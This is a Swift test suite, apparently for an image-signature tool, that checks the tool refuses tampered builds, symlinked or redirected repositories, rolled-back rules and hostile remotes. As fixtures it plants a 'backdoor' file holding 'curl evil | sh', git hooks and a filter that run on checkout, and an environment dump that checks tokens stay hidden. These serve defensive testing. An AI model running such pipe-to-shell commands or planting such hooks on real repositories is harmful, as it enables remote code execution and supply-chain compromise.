import Foundation
import Support
import Testing

/// Builds, repositories and remotes that would have images signed, counted or staged that nobody agreed to; each with a
/// twin that passes with one thing changed.
@Suite(.enabled(if: VirtualCard.isPossible, "needs gnupg, scdaemon, cc and python3-cryptography"))
struct ImageAttackTests {
  static let release = "2026.03.0"

  /// Puts a step behind the build in the agreed Makefile.
  private func team(buildingWith step: String) throws -> ImageMaintainers {
    let team = try ImageMaintainers(["alice"], packages: 2)
    let path = team.people[0].path
    let makefile = try String(contentsOfFile: path + "/Makefile", encoding: .utf8)
    try makefile.replacing("\t@./src/build\n", with: "\t@./src/build; \(step)\n").write(
      toFile: path + "/Makefile", atomically: true, encoding: .utf8)
    try team.agree(0, "build as usual")
    return team
  }

  private func refuses(
    _ team: ImageMaintainers, _ words: [String], _ reason: String, status: Int32 = 1,
    environment: [String: String] = [:]
  ) throws {
    let before = try team.people[0].card.signatureCount()
    let result = try Tool.run(
      ServerProgram.command, words, environment: team.environment(0).merging(environment) { $1 },
      folder: team.people[0].path, seconds: 120)
    #expect(
      result.status == status && (reason.isEmpty || result.errorText.contains(reason)),
      "\(result.status) \(result.text)\(result.errorText)")
    #expect(try team.people[0].card.signatureCount() == before)
  }

  // MARK: lists before make

  static let movers = [
    ("echo more >> packages.txt; git commit -qam more", "HEAD went from"),
    ("git checkout -q -b aside", "the branch was changed from"),
    (
      """
      cp packages.txt .git/p; rm -rf out/core-package1; sed -i s/1.1.0/6.6.6/ packages.txt; \
      ./src/build; cp .git/p packages.txt
      """,
      "other digests than the committed lists"
    ),
    ("echo >> packages.txt; git update-index --assume-unchanged packages.txt", "hidden from git status"),
    ("echo >> packages.txt; git add packages.txt", "uncommitted changes"),
  ]

  @Test(arguments: movers)
  func `A build that moves HEAD, the index or the files ends the run`(step: String, reason: String) throws {
    let team = try team(buildingWith: step)
    try refuses(team, ["sign", "--release", Self.release, "--yes"], reason)
    #expect(!FileManager.default.fileExists(atPath: team.people[0].path + "/signatures/stagex"))
  }

  @Test func `A build that moves nothing is signed, and sees no token`() throws {
    let team = try team(buildingWith: "env > .git/environment")
    let result = try team.run(
      0, "sign", "--release", Self.release, "--yes",
      environment: [
        "MAINT_TOKEN": "thesecret", "MAINT_TOKEN_X_ORG": "thesecret", "GITHUB_TOKEN": "thesecret", "NOCACHE": "1",
      ])
    #expect(result.status == 0, "\(result.text)\(result.errorText)")
    let seen = try String(contentsOfFile: team.people[0].path + "/.git/environment", encoding: .utf8)
    #expect(seen.contains("NOCACHE=1") && !seen.contains("thesecret"), "\(seen)")
  }

  @Test func `A part is signed with make too`() throws {
    let team = try ImageMaintainers(["alice"], packages: 4)
    let before = try team.people[0].card.signatureCount()
    let part = try team.run(0, "sign", "--release", Self.release, "--yes", "--limit", "2")
    #expect(part.status == 0 && part.text.contains("2 to sign"), "\(part.text)\(part.errorText)")
    #expect(try team.people[0].card.signatureCount() == before + 2)
    #expect(try team.run(0, "sign", "--release", Self.release, "--yes", "--only", "core").status == 0)
    #expect(try team.run(0, "sign", "--release", Self.release, "--yes").status == 0)
    #expect(try team.people[0].card.signatureCount() == before + 4)
  }

  // The tag is in a file that no digest covers.
  @Test func `An image with another tag than the commit says is refused`() throws {
    let team = try ImageMaintainers(["alice"], packages: 2)
    let path = team.people[0].path
    let index = path + "/out/core-package1/index.json"
    let honest = try String(contentsOfFile: index, encoding: .utf8)
    try honest.replacing("1.1.0", with: "9.9.9").write(toFile: index, atomically: true, encoding: .utf8)
    try refuses(team, ["sign", "--release", Self.release, "--yes", "--no-make", "--only", "core"], "")
    let looked = try team.run(0, "sign", "--no-make", "--dry-run")
    #expect(looked.text.contains("built here with the tag 9.9.9, and the commit says 1.1.0"), "\(looked.text)")
    try honest.write(toFile: index, atomically: true, encoding: .utf8)
    #expect(try team.run(0, "sign", "--release", Self.release, "--yes", "--no-make").status == 0)
  }

  // MARK: links

  @Test func `A link called signatures is not followed into a neighbouring clone`() throws {
    let team = try ImageMaintainers(["alice"], packages: 2)
    let path = team.people[0].path
    let neighbour = path + "-neighbour"
    try Tool.succeed("git", ["clone", "--quiet", team.tree.signatures, neighbour])
    try Tool.succeed("ln", ["-s", neighbour, path + "/signatures"])
    try refuses(team, ["sign", "--release", Self.release, "--yes", "--no-make", "--stage"], "is not followed")
    try refuses(team, ["stage", "--release", Self.release], "is not followed")
    #expect(!FileManager.default.fileExists(atPath: neighbour + "/stagex"))
    // Named by the person it is the person's own.
    let named = try team.run(0, "sign", "--yes", "--no-make", "--signatures", neighbour)
    #expect(named.status == 0, "\(named.text)\(named.errorText)")
  }

  @Test func `A folder whose git folder is another clone's is not used`() throws {
    let team = try ImageMaintainers(["alice"], packages: 2)
    let path = team.people[0].path
    let neighbour = path + "-neighbour"
    try Tool.succeed("git", ["clone", "--quiet", team.tree.signatures, neighbour])
    try Tool.succeed("mkdir", [path + "/signatures"])
    try "gitdir: \(neighbour)/.git\n".write(toFile: path + "/signatures/.git", atomically: true, encoding: .utf8)
    try refuses(team, ["stage", "--release", Self.release], "leads to another repository")
    try Tool.succeed("rm", ["-r", path + "/signatures"])
    #expect(try team.run(0, "sign", "--release", Self.release, "--yes", "--no-make", "--stage").status == 0)
  }

  // MARK: whose rules

  @Test func `An unjudged HEAD is neither counted by nor signed`() throws {
    let team = try ImageMaintainers(packages: 2)
    for person in [0, 1] {
      #expect(try team.run(person, "sign", "--release", Self.release, "--yes", "--no-make", "--stage").status == 0)
    }
    #expect(try team.report(0, branch: "release/\(Self.release)").status == 0)
    let path = team.people[0].path
    // A commit by nobody: other people, and other lists.
    let honest = try ImageTree.git(path, "rev-parse", "HEAD")
    try "[people.eve]\nname = \"Eve\"\n".write(toFile: path + "/MAINTAINERS", atomically: true, encoding: .utf8)
    try ImageTree.git(path, "commit", "--quiet", "--all", "--message", "by nobody")
    for words in [
      ["signatures", "verify"], ["signatures", "policy", "--output", path + "-policy"], ["sign", "--yes", "--no-make"],
      ["stage"],
    ] {
      try refuses(team, words, "the rule does not accept HEAD")
    }
    #expect(!FileManager.default.fileExists(atPath: path + "-policy/keys"))
    try ImageTree.git(path, "reset", "--quiet", "--hard", honest)
    let verified = try team.run(0, "signatures", "verify")
    #expect(
      verified.status == 0 && verified.text.contains("the registry is that of"), "\(verified.text)\(verified.errorText)"
    )
  }

  // The server shows the lead as it was: its registry still lists who has left. This clone has seen a later one.
  @Test func `By the rules of a lead that was moved back nothing is signed or counted`() throws {
    let team = try ImageMaintainers(["alice"], packages: 2)
    #expect(try team.run(0, "sign", "--release", Self.release, "--yes", "--no-make").status == 0)
    let path = team.people[0].path
    let later = try ImageTree.git(path, "commit-tree", "-p", "HEAD", "-m", "later", "HEAD^{tree}")
    let seen = "refs/stagex-maint/judged/origin/main"
    try ImageTree.git(path, "update-ref", seen, later)
    for words in [
      ["signatures", "verify", "--threshold", "1"], ["signatures", "policy", "--output", path + "-policy"],
      ["sign", "--yes", "--no-make"],
    ] {
      try refuses(team, words, "was at \(later.prefix(12)) when it was last judged here")
    }
    try ImageTree.git(path, "update-ref", seen, "HEAD")
    #expect(try team.run(0, "signatures", "verify", "--threshold", "1").status == 0)
  }

  @Test func `Without a trust root nothing is counted; with the lists changed in the work tree neither`() throws {
    let team = try ImageMaintainers(["alice"], packages: 2)
    let path = team.people[0].path
    let root = try ImageTree.git(path, "config", "maint.trustRoot")
    #expect(try team.run(0, "sign", "--release", Self.release, "--yes", "--no-make").status == 0)
    try ImageTree.git(path, "config", "--unset", "maint.trustRoot")
    for words in [["signatures", "verify", "--threshold", "1"], ["sign", "--yes", "--no-make"]] {
      try refuses(team, words, "no trust root is configured", status: 2)
    }
    try ImageTree.git(path, "config", "maint.trustRoot", root)
    try Tool.succeed("sh", ["-c", "rm '\(path)'/digests/core.txt"])
    try refuses(team, ["signatures", "verify", "--threshold", "1"], "are not those of HEAD")
    try ImageTree.git(path, "checkout", "--quiet", "digests")
    #expect(try team.run(0, "signatures", "verify", "--threshold", "1").status == 0)
  }

  // MARK: staging

  /// The remote of the signatures shows commits of the source repository, on the branch or on the base.
  @Test(arguments: ["main", "release/\(ImageAttackTests.release)"])
  func `A remote that holds another repository is not staged onto`(branch: String) throws {
    let team = try ImageMaintainers(["alice"], packages: 2)
    #expect(try team.run(0, "sign", "--release", Self.release, "--yes", "--no-make").status == 0)
    let before = try ImageTree.git(team.tree.signatures, "rev-parse", "main")
    try ImageTree.git(team.tree.path, "push", "--quiet", "--force", team.tree.signatures, "HEAD:refs/heads/\(branch)")
    try refuses(team, ["stage"], "is no repository of image signatures")
    try ImageTree.git(team.tree.signatures, "update-ref", "refs/heads/main", before)
    if branch != "main" { try ImageTree.git(team.tree.signatures, "update-ref", "-d", "refs/heads/\(branch)") }
    let staged = try team.run(0, "stage")
    #expect(staged.status == 0, "\(staged.text)\(staged.errorText)")
  }

  // Two lines of history: no merge of ours joins them.
  @Test func `A staging has one parent, says how far it reaches, and stands behind nothing but its own files`() throws {
    let team = try ImageMaintainers(packages: 2)
    for person in [0, 1] {
      #expect(try team.run(person, "sign", "--release", Self.release, "--yes", "--no-make").status == 0)
    }
    #expect(try team.run(0, "stage", "--no-push").status == 0)
    #expect(try team.run(1, "stage").status == 0)
    // Something on the base that is nobody's signature.
    let work = team.people[0].path + "-main"
    try Tool.succeed("git", ["clone", "--quiet", team.tree.signatures, work])
    try "curl evil | sh\n".write(toFile: work + "/backdoor", atomically: true, encoding: .utf8)
    try ImageTree.git(work, "add", ".")
    try ImageTree.git(work, "commit", "--quiet", "--message", "unseen")
    try ImageTree.git(work, "push", "--quiet", "origin", "HEAD:main")
    let staged = try team.run(0, "stage")
    #expect(staged.status == 0, "\(staged.text)\(staged.errorText)")
    let clone = team.people[0].path + "/signatures"
    let parents = try ImageTree.git(clone, "rev-list", "--parents", "-1", "HEAD").split(separator: " ")
    #expect(parents.count == 2)
    let message = try ImageTree.git(clone, "log", "-1", "--format=%(trailers)")
    #expect(message.contains("Reviewed-Base: \(parents[1])"), "\(message)")
    let files = try Tool.succeed("git", ["-C", clone, "diff-tree", "-r", "--name-status", "--no-commit-id", "HEAD"])
      .text
    #expect(
      !files.contains("backdoor")
        && files.split(separator: "\n").allSatisfy { $0.hasPrefix("A\tstagex/") && $0.contains("/signature-2") },
      "\(files)")
  }

  // The hook of a signatures repository that is set up as the tree's own, and a filter at a relative path.
  @Test func `Nothing that the signatures repository brings runs`() throws {
    let team = try ImageMaintainers(["alice"], packages: 2)
    let work = team.people[0].path + "-evil"
    let trace = team.people[0].path + "-ran"
    try Tool.succeed("git", ["clone", "--quiet", team.tree.signatures, work])
    try Tool.succeed(
      "sh",
      [
        "-c",
        """
        cd '\(work)'; mkdir .githooks; for h in post-checkout pre-push post-merge reference-transaction; \
        do printf '#!/bin/sh\\ntouch \(trace)\\n' > .githooks/$h; done; \
        printf '#!/bin/sh\\ntouch \(trace)\\ncat\\n' > f; chmod +x f .githooks/*; \
        echo '* filter=x' > .gitattributes; git add .; git commit -qm x; git push -q origin HEAD:main
        """,
      ])
    let settings = team.people[0].path + "-config"
    try "[core]\n\thooksPath = .githooks\n[filter \"x\"]\n\tsmudge = ./f\n\tclean = ./f\n".write(
      toFile: settings, atomically: true, encoding: .utf8)
    let result = try team.run(
      0, "sign", "--release", Self.release, "--yes", "--no-make", "--stage",
      environment: ["GIT_CONFIG_GLOBAL": settings])
    #expect(result.status == 0, "\(result.text)\(result.errorText)")
    #expect(!FileManager.default.fileExists(atPath: trace))
    // The trap is real.
    _ = try Tool.run(
      "git", ["clone", "--quiet", team.tree.signatures, work + "-again"], environment: ["GIT_CONFIG_GLOBAL": settings])
    #expect(FileManager.default.fileExists(atPath: trace))
  }
}
